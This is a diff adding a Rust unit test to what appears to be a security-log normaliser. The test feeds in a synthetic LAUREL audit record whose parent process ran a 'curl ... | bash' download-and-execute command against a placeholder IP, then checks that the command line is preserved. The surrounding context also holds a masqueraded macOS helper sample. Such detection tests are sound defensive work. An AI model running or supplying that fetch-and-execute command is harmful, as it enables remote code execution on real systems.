@@ -3583,6 +3583,16 @@ mod tests {
             a.doc["process"]["env_vars"],
             json!(["CI_JOB_ID=7", "HOME=/root"])
         );
+        // LAUREL's parent enrichment beside the SYSCALL record, with the parent's arguments.
+        let l = json!({"ID": "1743985201.118:99", "SYSCALL": {"syscall": 59, "success": "yes", "pid": 7, "ppid": 6, "uid": 1007,
+                "comm": "bash", "exe": "/usr/bin/bash", "UID": "etl", "SYSCALL": "execve"},
+            "EXECVE": {"argc": 1, "ARGV": ["bash"]},
+            "PPID": {"comm": "sh", "exe": "/usr/bin/dash", "ARGV": ["/bin/sh", "-c", "curl -fsS http://203.0.113.9/u | bash"]}});
+        let a = from_json(l, "x").unwrap();
+        assert_eq!(at(&a, "process.parent.executable"), "/usr/bin/dash");
+        assert!(
+            at(&a, "process.parent.command_line").contains("curl -fsS http://203.0.113.9/u | bash")
+        );
         // Santa through Filebeat: the executed file's signer becomes the process's.
         let sa = json!({"event": {"action": "exec", "category": ["process"]}, "host": {"name": "mac-1", "os": {"type": "macos"}},
             "process": {"executable": "/Users/s/Library/x/AdobeSyncHelper", "name": "AdobeSyncHelper", "args": ["AdobeSyncHelper", "/Users/s/Library/x/.c/sync.py"]},
